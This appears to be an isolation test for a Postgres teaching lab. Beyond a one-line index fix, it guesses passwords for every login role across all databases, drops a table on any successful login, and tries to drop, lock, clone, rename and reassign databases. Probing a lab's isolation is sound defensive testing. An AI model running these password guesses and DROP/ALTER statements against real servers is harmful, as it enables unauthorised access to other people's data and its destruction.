# lab: 10-missing-index
# tries: connect to the template, to postgres and to the other students' databases, as every role it can name.
# %% solution="fix"
lab.execute("CREATE INDEX CONCURRENTLY ON order_items (order_id)")
import psycopg


def attempt(*statements):
    """Run each in a session of its own, and say what came of it."""
    for statement in statements:
        try:
            with lab.connect() as own:
                cursor = own.execute(statement.encode())
                print(
                    statement[:80], "->", cursor.fetchmany(20) if cursor.description else cursor.statusmessage
                )
        except psycopg.Error as error:
            print(statement[:80], "->", type(error).__name__, str(error).splitlines()[0])


names = [row["datname"] for row in lab.rows("SELECT datname FROM pg_database")]
roles = [row["rolname"] for row in lab.rows("SELECT rolname FROM pg_roles WHERE rolcanlogin")]
passwords = [lab.conninfo["password"], "", "postgres", "x"]
for name in names:
    for role in roles:
        for password in passwords if role != lab.conninfo["user"] else passwords[:1]:
            if (name, role) == (lab.conninfo["dbname"], lab.conninfo["user"]):
                continue
            try:
                with psycopg.connect(
                    **{**lab.conninfo, "dbname": name, "user": role, "password": password}, connect_timeout=5
                ) as other:
                    print("IN", name, role, other.execute("SELECT count(*) FROM orders").fetchone())
                    lab.execute("DROP TABLE order_items CASCADE")
            except psycopg.Error:
                pass
attempt(
    *[f"ALTER DATABASE {name} CONNECTION LIMIT 0" for name in names if name != lab.conninfo["dbname"]],
    *[f"DROP DATABASE {name}" for name in names],
    *[f"CREATE DATABASE mine TEMPLATE {name}" for name in names],
)
attempt(
    f"ALTER DATABASE {lab.conninfo['dbname']} RENAME TO elsewhere",
    f"ALTER DATABASE {lab.conninfo['dbname']} OWNER TO pglab_admin",
)
